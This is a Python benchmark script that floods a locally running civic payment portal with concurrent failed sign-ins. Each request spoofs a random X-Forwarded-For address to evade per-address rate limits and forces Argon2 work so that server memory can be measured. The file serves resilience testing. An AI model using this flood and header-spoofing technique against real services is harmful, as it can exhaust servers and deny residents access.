"""Floods a running civicpay portal with resident sign-ins (each one an
Argon2 check), each from its own address through a trusted proxy, so no
per-address limit stops them. Prints the answers; read the server's peak
memory from /proc/PID/status (VmHWM) before and after. See BENCHMARKS.md.

    python3 password_flood.py PORTAL_PORT REQUESTS
"""
import http.client
import random
import re
import sys
import threading
import time
import urllib.parse

port, n = int(sys.argv[1]), int(sys.argv[2])
first = http.client.HTTPConnection("127.0.0.1", port)
first.request("GET", "/springfield/account/sign-in")
page = first.getresponse()
token = re.search(r'name="form_token" value="([^"]+)"', page.read().decode()).group(1)
cookie = "; ".join(v.split(";")[0] for k, v in page.getheaders() if k.lower() == "set-cookie")
answers, lock = {}, threading.Lock()


def sign_in(i):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
    body = urllib.parse.urlencode(
        {"form_token": token, "email": f"nobody{i}@example.org", "password": f"a long wrong password {i}"}
    )
    address = f"10.{random.randint(0, 255)}.{random.randint(0, 255)}.{random.randint(1, 254)}"
    conn.request(
        "POST",
        "/springfield/account/sign-in",
        body,
        {
            "Content-Type": "application/x-www-form-urlencoded",
            "Cookie": cookie,
            "X-Forwarded-For": address,
            "Origin": f"http://127.0.0.1:{port}",
        },
    )
    status = conn.getresponse().status
    with lock:
        answers[status] = answers.get(status, 0) + 1


started = time.time()
threads = [threading.Thread(target=sign_in, args=(i,)) for i in range(n)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print("answers", answers, "seconds", round(time.time() - started, 1))
